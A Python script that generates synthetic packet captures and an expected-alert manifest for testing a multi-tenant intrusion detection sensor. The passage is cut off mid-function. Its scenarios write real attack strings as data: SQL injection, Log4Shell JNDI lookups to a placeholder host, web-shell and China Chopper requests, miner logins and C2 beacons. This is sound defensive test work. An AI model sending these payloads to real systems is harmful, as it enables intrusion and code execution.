#!/usr/bin/python3
"""Sample traffic for Yunshao: attack and benign captures for several cloud tenants.

`gen_traffic.py --out DIR` writes one small pcap per scenario, a merged sample.pcap (every scenario one
after the other, an hour apart, for `make demo`), and manifest.json describing what each capture holds and
which alerts the bundled rule pack (rules/yunshao-cloud.rules) must raise on it with the tenant map of
rules/tenants.example.yaml. The integration tests (tests/integration/test_sensor.py) run the sensor on these
files and compare its alerts with the manifest, so the manifest is the specification of the traffic: it is
written from what the generator put on the wire, never from what a sensor reported.

Tenants and where their traffic lives (same as rules/tenants.example.yaml):
  acme      101  behind VXLAN VNI 5001   inner 10.0.0.0/24 (overlaps globex on purpose); IPv4 and IPv6 underlay
  globex    102  behind GENEVE VNI 6001  inner 10.0.0.0/24
  initech   103  802.1Q VLAN 100         10.100.0.0/16
  umbrella  104  QinQ 200/300            10.200.0.0/16
  hooli     105  plain, by CIDR          10.50.0.0/16 and fd00:50::/48
  unassigned 0   plain                   192.168.77.0/24

Everything is deterministic: a fixed seed, fixed timestamps (2026-01-01 UTC onwards), explicit MAC and IP
addresses (scapy never resolves anything, so generating sends nothing on any network). TCP sessions have
real three-way handshakes, sequence and acknowledgement numbers, ACKs and FIN teardown. Packets are built
with scapy and written with our own pcap writer so that deliberately malformed frames stay exactly as built.

Run with Debian's /usr/bin/python3 (it has scapy).
"""

import argparse
import base64
import hashlib
import ipaddress
import json
import os
import random
import struct
import sys

from scapy.contrib.geneve import GENEVE
from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import IP, TCP, UDP
from scapy.layers.inet6 import IPv6, IPv6ExtHdrFragment
from scapy.layers.l2 import Dot1AD, Dot1Q, Ether
from scapy.layers.vxlan import VXLAN
from scapy.packet import Raw

SEED = 20261126
T0 = 1767225600.0  # 2026-01-01T00:00:00Z: every scenario starts at T0 + index hours
LINKTYPE_ETHERNET = 1

# Tenants as the sensor config names them (rules/tenants.example.yaml holds the same ids).
TENANT_IDS = {"unassigned": 0, "acme": 101, "globex": 102, "initech": 103, "umbrella": 104, "hooli": 105}

# Addresses: TEST-NET-2/3 (RFC 5737) play the Internet, so nothing here is anybody's real host.
# One attacker address per scenario: by_src thresholds never mix scenarios, even when sample.pcap is
# replayed at line rate with fresh timestamps (the live-capture tests do that).
ATTACKERS = {"scan": "203.0.113.201", "ssh": "203.0.113.202", "log4shell": "203.0.113.203",
             "webshell": "203.0.113.204", "fragments": "203.0.113.205", "malformed": "203.0.113.206",
             "applayer": "203.0.113.207", "campaign": "203.0.113.208",
             "cloud": "203.0.113.209"}
ATTACKER = "203.0.113.200"  # the bench capture's attacker (tests/bench/gen_bench.py)
C2_SERVER = "203.0.113.66"
POOL_STRATUM = "203.0.113.50"
POOL_XMRIG = "203.0.113.51"
JNDI_HOST = "198.51.100.9"


# --------------------------------------------------------------------------------------------
# pcap writing
# --------------------------------------------------------------------------------------------

def write_pcap(path, frames):
    """frames: list of (ts float seconds, bytes). Classic pcap, microseconds, Ethernet."""
    with open(path, "wb") as f:
        f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, LINKTYPE_ETHERNET))
        for ts, data in frames:
            usec_total = int(round(ts * 1_000_000))
            sec, usec = divmod(usec_total, 1_000_000)
            f.write(struct.pack("<IIII", sec, usec, len(data), len(data)))
            f.write(data)


# --------------------------------------------------------------------------------------------
# Where a tenant's packets live on the wire
# --------------------------------------------------------------------------------------------

def _mac(n):
    return "02:00:5e:%02x:%02x:%02x" % ((n >> 16) & 0xFF, (n >> 8) & 0xFF, n & 0xFF)


class Net:
    """A tenant's network segment: how an inner IP packet is framed (plain, VLAN, QinQ, VXLAN, GENEVE)."""

    def __init__(self, tenant, kind, vni=0, vlans=(), vteps=None):
        self.tenant = tenant
        self.kind = kind
        self.vni = vni
        self.vlans = vlans
        self.vteps = vteps  # (client-side VTEP, server-side VTEP) outer addresses

    def frame(self, l3, from_client, fhash):
        cmac, smac = _mac(0x10000 + fhash % 4096), _mac(0x20000 + fhash % 4096)
        src, dst = (cmac, smac) if from_client else (smac, cmac)
        if self.kind == "plain":
            return Ether(src=src, dst=dst) / l3
        if self.kind == "vlan":
            return Ether(src=src, dst=dst) / Dot1Q(vlan=self.vlans[0]) / l3
        if self.kind == "qinq":
            return Ether(src=src, dst=dst) / Dot1AD(vlan=self.vlans[0]) / Dot1Q(vlan=self.vlans[1]) / l3
        inner = Ether(src=src, dst=dst) / l3
        a, b = self.vteps
        osrc, odst = (a, b) if from_client else (b, a)
        omac_s, omac_d = ("02:00:5e:aa:00:01", "02:00:5e:aa:00:02") if from_client else (
            "02:00:5e:aa:00:02", "02:00:5e:aa:00:01")
        # The outer source port carries a hash of the inner flow, as VTEPs do for ECMP.
        sport = 49152 + fhash % 16384
        if ":" in osrc:
            # IPv6 underlay: the UDP checksum is computed (zero is only tolerated for tunnels, RFC 6935).
            outer = Ether(src=omac_s, dst=omac_d) / IPv6(src=osrc, dst=odst, hlim=64)
            csum = {}
        else:
            outer = Ether(src=omac_s, dst=omac_d) / IP(src=osrc, dst=odst, ttl=64, id=fhash & 0xFFFF)
            csum = {"chksum": 0}  # as VTEPs send it over IPv4
        if self.kind == "vxlan":
            return outer / UDP(sport=sport, dport=4789, **csum) / VXLAN(vni=self.vni) / inner
        if self.kind == "geneve":
            return outer / UDP(sport=sport, dport=6081, **csum) / GENEVE(vni=self.vni, proto=0x6558) / inner
        raise ValueError(self.kind)

    def tunnel(self):
        """The EVE tunnel object an alert on this net must carry (client -> server packet), or None."""
        if self.kind not in ("vxlan", "geneve"):
            return None
        return {"type": self.kind, "vni": self.vni, "src_ip": self.vteps[0], "dest_ip": self.vteps[1]}

    def vlan_list(self):
        return list(self.vlans) if self.kind in ("vlan", "qinq") else None


NETS = {
    "acme": Net("acme", "vxlan", vni=5001, vteps=("172.31.0.11", "172.31.0.12")),
    "globex": Net("globex", "geneve", vni=6001, vteps=("172.31.1.21", "172.31.1.22")),
    "initech": Net("initech", "vlan", vlans=(100,)),
    "umbrella": Net("umbrella", "qinq", vlans=(200, 300)),
    "hooli": Net("hooli", "plain"),
    "unassigned": Net("unassigned", "plain"),
    # acme's second region: the same VNI over an IPv6 underlay.
    "acme-v6underlay": Net("acme", "vxlan", vni=5001, vteps=("fd00:31::11", "fd00:31::12")),
}


def ip_layer(src, dst, rng, **kw):
    if ":" in src:
        return IPv6(src=src, dst=dst, hlim=64, **kw)
    return IP(src=src, dst=dst, ttl=64, id=rng.randrange(1, 65536), **kw)


# --------------------------------------------------------------------------------------------
# A capture being built: a clock and a list of frames
# --------------------------------------------------------------------------------------------

class Capture:
    def __init__(self, start, rng):
        self.t = start
        self.rng = rng
        self.frames = []
        self.flows = set()  # (tenant, proto, endpoints): the flows a sensor must create for this capture

    def flow(self, tenant, proto, a, aport, b, bport):
        ends = tuple(sorted([(ipaddress.ip_address(a).packed, aport), (ipaddress.ip_address(b).packed, bport)]))
        self.flows.add((tenant, proto, ends))

    def tick(self, lo=0.0002, hi=0.002):
        self.t += self.rng.uniform(lo, hi)

    def emit(self, frame, dt=None):
        if dt is None:
            self.tick()
        else:
            self.t += dt
        self.frames.append((self.t, bytes(frame)))

    def emit_raw(self, data, dt=None):
        if dt is None:
            self.tick()
        else:
            self.t += dt
        self.frames.append((self.t, data))


class PortAlloc:
    """Client ports unique across the whole run, so the merged sample.pcap never reuses a 5-tuple."""

    def __init__(self):
        self.next = 40000

    def __call__(self):
        p = self.next
        self.next += 1
        if self.next > 65000:
            self.next = 40000
        return p


def _fhash(*parts):
    return int.from_bytes(hashlib.sha1(repr(parts).encode()).digest()[:4], "big")


class TcpSession:
    """One TCP connection with a real handshake, seq/ack bookkeeping, ACKs and a FIN teardown."""

    MSS = 1400

    def __init__(self, cap, net, cli, srv, sport, dport, syn_window=64240):
        self.cap, self.net = cap, net
        self.cli, self.srv, self.sport, self.dport = cli, srv, sport, dport
        self.cseq = cap.rng.randrange(1 << 32)
        self.sseq = cap.rng.randrange(1 << 32)
        self.syn_window = syn_window
        self.fh = _fhash(net.tenant, cli, srv, sport, dport)
        cap.flow(net.tenant, 6, cli, sport, srv, dport)

    def _send(self, from_client, flags, payload=b"", dt=None, options=None, window=None):
        c = self.cap
        if from_client:
            l3 = ip_layer(self.cli, self.srv, c.rng)
            tcp = TCP(sport=self.sport, dport=self.dport, flags=flags, seq=self.cseq & 0xFFFFFFFF,
                      ack=(self.sseq & 0xFFFFFFFF) if "A" in flags else 0,
                      window=window or 502, options=options or [])
        else:
            l3 = ip_layer(self.srv, self.cli, c.rng)
            tcp = TCP(sport=self.dport, dport=self.sport, flags=flags, seq=self.sseq & 0xFFFFFFFF,
                      ack=(self.cseq & 0xFFFFFFFF) if "A" in flags else 0,
                      window=window or 509, options=options or [])
        pkt = l3 / tcp
        if payload:
            pkt = pkt / Raw(payload)
        c.emit(self.net.frame(pkt, from_client, self.fh), dt)
        return pkt

    def open(self, dt=None):
        opts = [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (0x1000, 0)), ("NOP", None), ("WScale", 7)]
        self._send(True, "S", dt=dt, options=opts, window=self.syn_window)
        self.cseq += 1
        self._send(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("NOP", None), ("WScale", 7)],
                   window=65160)
        self.sseq += 1
        self._send(True, "A")

    def send(self, data, from_client=True, dt=None):
        """Deliver DATA in MSS-sized segments, each acknowledged by the peer."""
        first = True
        for off in range(0, len(data), self.MSS):
            seg = data[off:off + self.MSS]
            self._send(from_client, "PA", seg, dt=dt if first else None)
            first = False
            if from_client:
                self.cseq += len(seg)
            else:
                self.sseq += len(seg)
            self._send(not from_client, "A")

    def send_split(self, data, cuts, retransmit=()):
        """Client -> server DATA cut at offsets CUTS into separate segments (each acknowledged); segment
        numbers in RETRANSMIT are sent twice, as after a lost ACK."""
        bounds = [0] + list(cuts) + [len(data)]
        for i in range(len(bounds) - 1):
            seg = data[bounds[i]:bounds[i + 1]]
            self._send(True, "PA", seg)
            if i in retransmit:
                self._send(True, "PA", seg, dt=0.2)
            self.cseq += len(seg)
            self._send(False, "A")

    def close(self):
        self._send(True, "FA")
        self.cseq += 1
        self._send(False, "FA")
        self.sseq += 1
        self._send(True, "A")

    def exchange(self, request, response, dt=None):
        self.open(dt)
        self.send(request)
        if response:
            self.send(response, from_client=False)
        self.close()


def http_get(path, host, headers=(), ua="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"):
    lines = ["GET %s HTTP/1.1" % path, "Host: %s" % host, "User-Agent: %s" % ua,
             "Accept: text/html,application/xhtml+xml,*/*;q=0.8", "Accept-Language: en-US,en;q=0.5"]
    lines += list(headers)
    lines += ["Connection: keep-alive", "", ""]
    return "\r\n".join(lines).encode()


def http_post(path, host, body, ctype="application/x-www-form-urlencoded", headers=(),
              ua="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"):
    if isinstance(body, str):
        body = body.encode()
    lines = ["POST %s HTTP/1.1" % path, "Host: %s" % host, "User-Agent: %s" % ua,
             "Content-Type: %s" % ctype, "Content-Length: %d" % len(body)]
    lines += list(headers)
    lines += ["Connection: close", "", ""]
    return "\r\n".join(lines).encode() + body


def http_response(body=b"<html><body>ok</body></html>", status="200 OK", ctype="text/html; charset=utf-8",
                  headers=()):
    if isinstance(body, str):
        body = body.encode()
    lines = ["HTTP/1.1 %s" % status, "Server: nginx/1.22.1", "Date: Thu, 01 Jan 2026 00:00:00 GMT",
             "Content-Type: %s" % ctype, "Content-Length: %d" % len(body)]
    lines += list(headers)
    lines += ["", ""]
    return "\r\n".join(lines).encode() + body


def http_exchange(cap, net, ports, cli, srv, request, response=None, dport=80, dt=None):
    """One HTTP request/response on a fresh connection. Returns (client port, server port)."""
    sport = ports()
    TcpSession(cap, net, cli, srv, sport, dport).exchange(request, response or http_response(), dt=dt)
    return sport


# --------------------------------------------------------------------------------------------
# TLS, SSH and DNS payloads
# --------------------------------------------------------------------------------------------

def _ext(etype, data):
    return struct.pack("!HH", etype, len(data)) + data


def tls_client_hello(sni, rng):
    """A browser-like TLS 1.3 ClientHello record carrying SNI (enough for SNI/JA3/JA4 parsing)."""
    ciphers = [0x1301, 0x1303, 0x1302, 0xC02B, 0xC02F, 0xCCA9, 0xCCA8, 0xC02C, 0xC030, 0xC00A, 0xC009,
               0xC013, 0xC014, 0x009C, 0x009D, 0x002F, 0x0035]
    name = sni.encode()
    sni_list = struct.pack("!BH", 0, len(name)) + name
    groups = struct.pack("!H4H", 8, 0x001D, 0x0017, 0x0018, 0x0019)
    alpn_list = b"\x02h2\x08http/1.1"
    sigalgs = struct.pack("!H8H", 16, 0x0403, 0x0503, 0x0603, 0x0804, 0x0805, 0x0806, 0x0401, 0x0501)
    key = bytes(rng.randrange(256) for _ in range(32))
    exts = b"".join([
        _ext(0, struct.pack("!H", len(sni_list)) + sni_list),
        _ext(23, b""),
        _ext(65281, b"\x00"),
        _ext(10, groups),
        _ext(11, b"\x01\x00"),
        _ext(35, b""),
        _ext(16, struct.pack("!H", len(alpn_list)) + alpn_list),
        _ext(5, b"\x01\x00\x00\x00\x00"),
        _ext(13, sigalgs),
        _ext(51, struct.pack("!HHH", 36, 0x001D, 32) + key),
        _ext(45, b"\x01\x01"),
        _ext(43, b"\x04\x03\x04\x03\x03"),
    ])
    body = (b"\x03\x03" + bytes(rng.randrange(256) for _ in range(32)) + b"\x20" +
            bytes(rng.randrange(256) for _ in range(32)) + struct.pack("!H", 2 * len(ciphers)) +
            b"".join(struct.pack("!H", c) for c in ciphers) + b"\x01\x00" + struct.pack("!H", len(exts)) + exts)
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


def tls_server_flight(rng, nbytes=900):
    """ServerHello (TLS 1.3) + ChangeCipherSpec + one opaque application-data record."""
    exts = _ext(43, b"\x03\x04") + _ext(51, struct.pack("!HH", 0x001D, 32) + bytes(rng.randrange(256)
                                                                                  for _ in range(32)))
    body = (b"\x03\x03" + bytes(rng.randrange(256) for _ in range(32)) + b"\x20" +
            bytes(rng.randrange(256) for _ in range(32)) + b"\x13\x01\x00" + struct.pack("!H", len(exts)) + exts)
    hs = b"\x02" + struct.pack("!I", len(body))[1:] + body
    rec = b"\x16\x03\x03" + struct.pack("!H", len(hs)) + hs
    rec += b"\x14\x03\x03\x00\x01\x01"
    rec += b"\x17\x03\x03" + struct.pack("!H", nbytes) + bytes(rng.randrange(256) for _ in range(nbytes))
    return rec


def tls_app_data(rng, nbytes):
    return b"\x17\x03\x03" + struct.pack("!H", nbytes) + bytes(rng.randrange(256) for _ in range(nbytes))


def ssh_blob(rng, n):
    """An SSH binary packet of N opaque bytes (what a key exchange / encrypted session looks like)."""
    return struct.pack("!I", n) + bytes(rng.randrange(256) for _ in range(n))


def dns_query(cap, net, cli, srv, sport, qname, qtype, qid, answer=None, rcode=0):
    fh = _fhash(net.tenant, cli, srv, sport, 53)
    cap.flow(net.tenant, 17, cli, sport, srv, 53)
    q = ip_layer(cli, srv, cap.rng) / UDP(sport=sport, dport=53) / DNS(
        id=qid, rd=1, qd=DNSQR(qname=qname, qtype=qtype))
    cap.emit(net.frame(q, True, fh))
    an = None
    if answer is not None:
        an = DNSRR(rrname=qname, type=qtype, ttl=300, rdata=answer)
    r = ip_layer(srv, cli, cap.rng) / UDP(sport=53, dport=sport) / DNS(
        id=qid, qr=1, rd=1, ra=1, rcode=rcode, qd=DNSQR(qname=qname, qtype=qtype), an=an)
    cap.emit(net.frame(r, False, fh), dt=cap.rng.uniform(0.002, 0.02))


# --------------------------------------------------------------------------------------------
# Expected alerts
# --------------------------------------------------------------------------------------------

def expect(sid, tenant, src, dst, dport, count=1, sport=None, proto="TCP", app_proto=None, net=None,
           note="", sports=None):
    """An expected alert (or COUNT identical ones). NET adds the tunnel/vlan the alert must carry."""
    e = {"sid": sid, "count": count, "tenant": tenant, "tenant_id": TENANT_IDS[tenant], "src_ip": src,
         "dest_ip": dst, "dest_port": dport, "proto": proto}
    if sport is not None:
        e["src_port"] = sport
    if sports is not None:
        e["src_ports"] = sports  # one alert per listed source port
    if app_proto:
        e["app_proto"] = app_proto
    if net is not None:
        if net.tunnel():
            e["tunnel"] = net.tunnel()
        if net.vlan_list():
            e["vlan"] = net.vlan_list()
    if note:
        e["note"] = note
    return e


# --------------------------------------------------------------------------------------------
# Scenarios: each returns (frames, manifest entry)
# --------------------------------------------------------------------------------------------

SQLI_UNION = "/products.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"


def scen_tenants(cap, ports):
    """The same SQL injection in every tenant; acme and globex use the very same inner 5-tuple."""
    alerts = []
    flows = [
        ("acme", "10.0.0.5", "10.0.0.80", 41000),
        ("globex", "10.0.0.5", "10.0.0.80", 41000),  # identical to acme: isolation by tenant
        ("initech", "10.100.0.5", "10.100.0.80", None),
        ("umbrella", "10.200.0.5", "10.200.0.80", None),
        ("hooli", "10.50.1.5", "10.50.1.80", None),
        ("unassigned", "192.168.77.5", "192.168.77.80", None),
        ("acme-v6underlay", "10.0.0.6", "10.0.0.80", None),
    ]
    for netname, cli, srv, fixed_port in flows:
        net = NETS[netname]
        tenant = net.tenant
        sport = fixed_port or ports()
        TcpSession(cap, net, cli, srv, sport, 80).exchange(
            http_get(SQLI_UNION, "shop.%s.example" % tenant), http_response(), dt=0.5)
        alerts.append(expect(9100101, tenant, cli, srv, 80, sport=sport, net=net,
                             note="UNION SELECT in the URI"))
    return {"description": "SQL injection (UNION SELECT) once per tenant: VXLAN, GENEVE, VLAN, QinQ, CIDR, "
                           "unassigned; acme and globex share the exact inner 5-tuple; acme again over an "
                           "IPv6 underlay",
            "alerts": alerts}


def scen_scan(cap, ports):
    """An nmap-style SYN scan of one hooli host: window 1024, no options, RST from closed ports."""
    net = NETS["hooli"]
    scanner, target = ATTACKERS["scan"], "10.50.2.10"
    open_ports = {22, 80, 443}
    probe_ports = list(range(1, 101))
    cap.rng.shuffle(probe_ports)
    sport = 61234  # nmap keeps one source port for a SYN scan
    for dport in probe_ports:
        fh = _fhash("hooli", scanner, target, sport, dport)
        cap.flow("hooli", 6, scanner, sport, target, dport)
        seq = cap.rng.randrange(1 << 32)
        syn = ip_layer(scanner, target, cap.rng) / TCP(sport=sport, dport=dport, flags="S", seq=seq,
                                                        window=1024)
        cap.emit(net.frame(syn, True, fh), dt=cap.rng.uniform(0.005, 0.015))
        if dport in open_ports:
            rsp = ip_layer(target, scanner, cap.rng) / TCP(sport=dport, dport=sport, flags="SA",
                                                            seq=cap.rng.randrange(1 << 32), ack=seq + 1,
                                                            window=65160, options=[("MSS", 1460)])
            cap.emit(net.frame(rsp, False, fh))
            rst = ip_layer(scanner, target, cap.rng) / TCP(sport=sport, dport=dport, flags="R", seq=seq + 1,
                                                            window=0)
            cap.emit(net.frame(rst, True, fh))
        else:
            rst = ip_layer(target, scanner, cap.rng) / TCP(sport=dport, dport=sport, flags="RA", seq=0,
                                                            ack=seq + 1, window=0)
            cap.emit(net.frame(rst, False, fh))
    return {"description": "nmap-style SYN scan of 100 ports of 10.50.2.10 (hooli) in about one second",
            "probe_ports": probe_ports,
            "alerts": [
                # threshold type both, count 5 / count 50: the alert comes with the 5th / 50th probe.
                expect(9100001, "hooli", scanner, target, probe_ports[4], sport=sport, net=net,
                       note="5th window-1024 SYN from one source"),
                expect(9100002, "hooli", scanner, target, probe_ports[49], sport=sport, net=net,
                       note="50th SYN from one source within 10 s"),
            ]}


def scen_sqli(cap, ports):
    net = NETS["acme"]
    cli, srv = "10.0.0.7", "10.0.0.81"
    alerts = []

    def req(path, sids, note):
        sport = http_exchange(cap, net, ports, cli, srv, http_get(path, "app.acme.example"), dt=0.3)
        for sid in sids:
            alerts.append(expect(sid, "acme", cli, srv, 80, sport=sport, net=net, note=note))

    req(SQLI_UNION, [9100101], "UNION SELECT")
    req("/login.php?user=admin%27%20OR%20%271%27%3D%271&pass=x", [9100102], "' OR '1'='1 tautology")
    req("/item.php?id=1%20AND%20SLEEP(5)", [9100103], "time-based blind SLEEP(5)")
    req("/api/v1/search?q=x%27%20union%20all%20select%20table_name%20from%20information_schema.tables--",
        [9100101, 9100104], "UNION ALL SELECT from information_schema: two rules, one flow")
    sport = http_exchange(cap, net, ports, cli, srv,
                          http_post("/account/login.php", "app.acme.example",
                                    "username=a%27%3B%20DROP%20TABLE%20users%3B--&password=x"), dt=0.3)
    alerts.append(expect(9100105, "acme", cli, srv, 80, sport=sport, net=net,
                         note="stacked query '; DROP TABLE in a POST body"))
    return {"description": "SQL injection variants against an acme web server (VXLAN 5001)", "alerts": alerts}


def scen_log4shell(cap, ports):
    net = NETS["globex"]
    cli, srv = ATTACKERS["log4shell"], "10.0.0.90"
    alerts = []
    cases = [
        (http_get("/", "portal.globex.example", ua="${jndi:ldap://%s:1389/Exploit}" % JNDI_HOST), 9100201,
         "JNDI lookup in User-Agent"),
        (http_get("/search?q=${jndi:rmi://%s:1099/obj}" % JNDI_HOST, "portal.globex.example"), 9100201,
         "JNDI lookup in the URI"),
        (http_get("/", "portal.globex.example",
                  headers=["X-Api-Version: ${${lower:j}ndi:ldap://%s:1389/a}" % JNDI_HOST]), 9100202,
         "obfuscated ${${lower:j}ndi: in a header"),
        (http_get("/", "portal.globex.example",
                  headers=["Referer: ${${::-j}${::-n}${::-d}${::-i}:dns://%s/x}" % JNDI_HOST]), 9100202,
         "obfuscated ${${::-j}... in a header"),
        (http_get("/index.jsp?q=%%24%%7Bjndi%%3Aldap%%3A%%2F%%2F%s%%3A1389%%2Fa%%7D" % JNDI_HOST,
                  "portal.globex.example"), 9100203, "URL-encoded %24%7Bjndi in the URI"),
    ]
    for request, sid, note in cases:
        sport = http_exchange(cap, net, ports, cli, srv, request, http_response(status="400 Bad Request"),
                              dport=8080, dt=0.4)
        alerts.append(expect(sid, "globex", cli, srv, 8080, sport=sport, net=net, note=note))
    # The same lookup split over two TCP segments inside "${jndi:", then one whose segment is retransmitted:
    # stream inspection must see the first once and the second only once.
    request = http_get("/", "portal.globex.example", ua="${jndi:ldap://%s:1389/Split}" % JNDI_HOST)
    for cuts, retransmit, note in [([request.index(b"${jndi:") + 3], (), "lookup split over two segments"),
                                   ([], (0,), "attack segment retransmitted: one alert")]:
        sport = ports()
        s = TcpSession(cap, net, cli, srv, sport, 8080)
        s.open(dt=0.4)
        s.send_split(request, cuts, retransmit)
        s.send(http_response(status="400 Bad Request"), from_client=False)
        s.close()
        alerts.append(expect(9100201, "globex", cli, srv, 8080, sport=sport, net=net, note=note))
    return {"description": "Log4Shell (CVE-2021-44228) JNDI lookups against a globex service on 8080 (GENEVE)",
            "alerts": alerts}


def scen_webshell(cap, ports):
    net = NETS["umbrella"]
    cli, srv = ATTACKERS["webshell"], "10.200.0.80"
    alerts = []
    sport = http_exchange(cap, net, ports, cli, srv, http_get("/uploads/avatar.php?cmd=id", "www.umbrella.example"),
                          http_response("uid=33(www-data) gid=33(www-data) groups=33(www-data)\n",
                                        ctype="text/plain"), dt=0.5)
    alerts.append(expect(9100301, "umbrella", cli, srv, 80, sport=sport, net=net, note="cmd= on an upload path"))
    # The response travels server -> client: the alert's source is the web server.
    alerts.append(expect(9100303, "umbrella", srv, cli, sport, sport=80, net=net,
                         note="id(1) output returned by the web shell, same flow"))
    sport = http_exchange(cap, net, ports, cli, srv,
                          http_get("/static/upload/cmd.jsp?exec=whoami", "www.umbrella.example"),
                          http_response("root\n", ctype="text/plain"), dt=0.5)
    alerts.append(expect(9100301, "umbrella", cli, srv, 80, sport=sport, net=net, note="exec= on a .jsp upload"))
    chopper = ("pass=%40eval%01%28base64_decode%28%24_POST%5Bz0%5D%29%29%3B&z0=" +
               "QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpO0BzZXRfdGltZV9saW1pdCgwKTtlY2hvKCItPnwiKTs=")
    sport = http_exchange(cap, net, ports, cli, srv,
                          http_post("/images/logo.php", "www.umbrella.example", chopper,
                                    ua="Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"),
                          http_response("->|/var/www/html\t/\t|<-", ctype="text/plain"), dt=0.5)
    alerts.append(expect(9100302, "umbrella", cli, srv, 80, sport=sport, net=net,
                         note="China Chopper eval(base64_decode($_POST[z0]))"))
    return {"description": "Web shells on an umbrella server (QinQ 200/300): cmd= on uploads, China Chopper",
            "alerts": alerts}


def scen_mining(cap, ports):
    alerts = []
    net = NETS["hooli"]
    miner = "10.50.6.30"
    sport = ports()
    s = TcpSession(cap, net, miner, POOL_STRATUM, sport, 3333)
    s.open(dt=0.5)
    s.send(b'{"id": 1, "method": "mining.subscribe", "params": ["cpuminer-opt/3.23.3"]}\n')
    s.send(b'{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a302a8a9dd95cf71f"]],"08000002",4],"error":null}\n',
           from_client=False)
    s.send(b'{"params": ["bc1qexampleworkeraddress0000000000000.rig1", "x"], "id": 2, '
           b'"method": "mining.authorize"}\n')
    s.send(b'{"id":2,"result":true,"error":null}\n', from_client=False)
    s.close()
    alerts.append(expect(9100401, "hooli", miner, POOL_STRATUM, 3333, sport=sport, net=net,
                         note="stratum mining.subscribe"))
    alerts.append(expect(9100402, "hooli", miner, POOL_STRATUM, 3333, sport=sport, net=net,
                         note="stratum mining.authorize, same flow"))
    net = NETS["initech"]
    miner = "10.100.0.31"
    sport = ports()
    s = TcpSession(cap, net, miner, POOL_XMRIG, sport, 14444)
    s.open(dt=0.5)
    s.send(b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWz'
           b'YGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD","pass":"x","agent":"XMRig/6.21.0 '
           b'(Linux x86_64) libuv/1.44.2 gcc/12.2.0","algo":["rx/0","cn/r","rx/wow"]}}\n')
    s.send(b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"1a2b3c","status":"OK"}}\n', from_client=False)
    s.close()
    alerts.append(expect(9100403, "initech", miner, POOL_XMRIG, 14444, sport=sport, net=net,
                         note="XMRig stratum login"))
    return {"description": "Crypto-mining: stratum subscribe/authorize (hooli), XMRig login (initech VLAN 100)",
            "alerts": alerts}


def scen_ssh_bruteforce(cap, ports):
    net = NETS["initech"]
    srv = "10.100.0.22"
    attempts = []
    for i in range(26):
        sport = ports()
        attempts.append(sport)
        s = TcpSession(cap, net, ATTACKERS["ssh"], srv, sport, 22)
        s.open(dt=2.0)
        s.send(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", from_client=False)
        s.send(b"SSH-2.0-libssh2_1.10.0\r\n")
        s.send(ssh_blob(cap.rng, 500))
        s.send(ssh_blob(cap.rng, 300), from_client=False)
        s.send(ssh_blob(cap.rng, 80))
        s.close()
    # detection_filter count 5 / 60 s: attempts 6..26 alert (21 alerts: enough for the central service's
    # brute-force correlation, 20 in 5 minutes).
    return {"description": "SSH brute force: 26 short connections in 52 s from one address to an initech host",
            "attempt_ports": attempts,
            "alerts": [expect(9100501, "initech", ATTACKERS["ssh"], srv, 22, count=21, sports=attempts[5:],
                              net=net, note="connections 6..26 within 60 s")]}


def _b32(rng, n):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(n))


def scen_dns_tunnel(cap, ports):
    net = NETS["hooli"]
    resolver = "10.50.0.2"
    alerts = []
    cli = "10.50.4.20"
    qports = []
    for i in range(8):
        name = "%s.%s.x.tunnel-example.net" % (_b32(cap.rng, 60), _b32(cap.rng, 20))
        qports.append(ports())
        dns_query(cap, net, cli, resolver, qports[-1], name, "A", 0x1000 + i, rcode=3)
        cap.tick(0.5, 1.5)
    # threshold type both count 3 / 60 s: one alert, with the third query.
    alerts.append(expect(9100601, "hooli", cli, resolver, 53, sport=qports[2], proto="UDP", net=net,
                         note="8 queries with 60-char base32 labels; the 3rd alerts"))
    cli = "10.50.4.21"
    qports = []
    for i in range(30):
        name = "%s.t.sync-example.net" % "".join(cap.rng.choice("0123456789abcdef") for _ in range(30))
        qports.append(ports())
        dns_query(cap, net, cli, resolver, qports[-1], name, "TXT", 0x2000 + i,
                  answer=[base64.b64encode(bytes(cap.rng.randrange(256) for _ in range(48)))])
        cap.tick(0.3, 0.9)
    # threshold type both count 20 / 60 s: the 20th TXT query alerts.
    alerts.append(expect(9100602, "hooli", cli, resolver, 53, sport=qports[19], proto="UDP", net=net,
                         note="30 TXT queries to one domain in about 30 s; the 20th alerts"))
    return {"description": "DNS tunnelling indicators from two hooli hosts: long encoded labels, a TXT stream",
            "alerts": alerts}


CS_UA = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; BOIE9;ENUS)"


def scen_c2(cap, ports):
    net = NETS["hooli"]
    implant = "10.50.3.7"
    beacon_ports = []
    for i, uri in enumerate(["/dpixel", "/ca", "/__utm.gif", "/pixel.gif", "/dpixel", "/ca"]):
        meta = base64.b64encode(bytes(cap.rng.randrange(256) for _ in range(128))).decode()
        req = ("GET %s HTTP/1.1\r\nAccept: */*\r\nCookie: %s\r\nUser-Agent: %s\r\nHost: %s\r\n"
               "Connection: Keep-Alive\r\nCache-Control: no-cache\r\n\r\n" % (uri, meta, CS_UA, C2_SERVER)).encode()
        sport = ports()
        TcpSession(cap, net, implant, C2_SERVER, sport, 80).exchange(
            req, http_response(b"", ctype="application/octet-stream"), dt=60.0 if i else 0.5)
        beacon_ports.append(sport)
    body = bytes(cap.rng.randrange(256) for _ in range(68))
